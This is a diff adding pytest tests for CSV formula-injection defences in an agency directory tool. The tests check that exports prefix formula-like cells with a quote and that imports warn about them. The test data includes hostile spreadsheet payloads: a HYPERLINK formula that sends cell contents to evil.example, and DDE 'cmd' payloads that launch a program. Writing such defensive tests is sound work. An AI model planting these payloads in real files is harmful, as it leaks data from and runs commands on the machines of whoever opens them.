@@ -1,0 +1,80 @@
+"""Spreadsheet formula injection: CSV exports neutralise formula-like texts, imports warn and read them back."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from click.testing import CliRunner
+from csv_rows import write_csv
+
+from cli import main
+from geo import _files, directory_io, settings
+from geo.directory_io import default_dir
+
+FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1")  # fmt: skip
+"""Names and notes of the hostile agencies (a leading tab or carriage return is stripped by every import)."""
+
+
+def _sample(name: str) -> list[dict[str, str]]:
+    with (default_dir() / f"{name}.csv").open(encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.fixture
+def hostile(engine, tmp_path):
+    """A database of six agencies and one agreement whose names start like formulas."""
+    rows = [{**row, "name": formula, "notes": formula} for row, formula in zip(_sample("agencies"), FORMULAS)]
+    counts = directory_io.import_agencies(engine, write_csv(tmp_path / "agencies.csv", rows))
+    agreement = {**_sample("agreements")[0], "title": FORMULAS[0]}
+    directory_io.import_agreements(engine, write_csv(tmp_path / "agreements.csv", [agreement]))
+    return engine, rows, counts
+
+
+def _read(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("public", [True, False])
+def test_csv_export_neutralises_formula_cells(hostile, public):
+    engine, rows, _ = hostile
+    exported = {row["id"]: row for row in _read(directory_io.export_agencies(engine, fmt="csv", public=public))}
+    for row in rows:
+        cells = exported[row["id"]]
+        if cells["notes"]:  # a confidential agency's notes are not in the public export
+            assert cells["notes"] == "'" + row["notes"]
+        assert cells["name"] == "'" + row["name"]
+        assert float(cells["lon"]) and float(cells["lat"])  # numbers untouched: no quote
+    assert any(cells["lat"].startswith("-") for cells in exported.values())  # southern points keep their sign
+    agreements = _read(directory_io.export_agreements(engine, fmt="csv"))
+    assert agreements[0]["title"] == "'" + FORMULAS[0]
+    assert [_files.neutralised(text) for text in ("\tx", "\rx", "x=1", "")] == ["'\tx", "'\rx", "x=1", ""]
+
+
+def test_import_warns_about_formula_cells(hostile, tmp_path, monkeypatch):
+    engine, rows, counts = hostile
+    warned = {(w.row, w.field, w.value) for w in counts["warnings"]}
+    assert {(n, "name", row["name"]) for n, row in enumerate(rows, start=1)} <= warned
+    assert not any(w.field in ("lon", "lat", "phone") for w in counts["warnings"])  # numbers and phone numbers
+    assert counts["added"] == len(rows)  # a warning rejects nothing
+
+    monkeypatch.setattr(settings, "database_url", engine.url.render_as_string(hide_password=False))
+    path = write_csv(tmp_path / "again.csv", [{**rows[0], "phone": "+62 380 123"}])
+    answer = CliRunner().invoke(main, ["agencies", "import", str(path)], catch_exceptions=False)
+    assert answer.exit_code == 0 and "updated: 1" in answer.stdout
+    assert f"row 1: `name` was {rows[0]['name']!r}" in answer.stderr and "+62 380 123" not in answer.stderr
+
+
+def test_full_export_reimports_formula_like_names_unchanged(hostile, tmp_path):
+    engine, rows, _ = hostile
+    before = directory_io.export_agencies(engine, fmt="csv", public=False, include_retired=True)
+    path = tmp_path / "full.csv"
+    path.write_text(before, encoding="utf-8")
+    counts = directory_io.import_agencies(engine, path)
+    assert counts["warnings"] == []  # our own neutralised cells are not formulas
+    frame = directory_io.directory.agencies_frame(engine).set_index("id")
+    for row in rows:
+        assert (frame.loc[row["id"], "name"], frame.loc[row["id"], "notes"]) == (row["name"], row["notes"])
+    assert directory_io.export_agencies(engine, fmt="csv", public=False, include_retired=True) == before
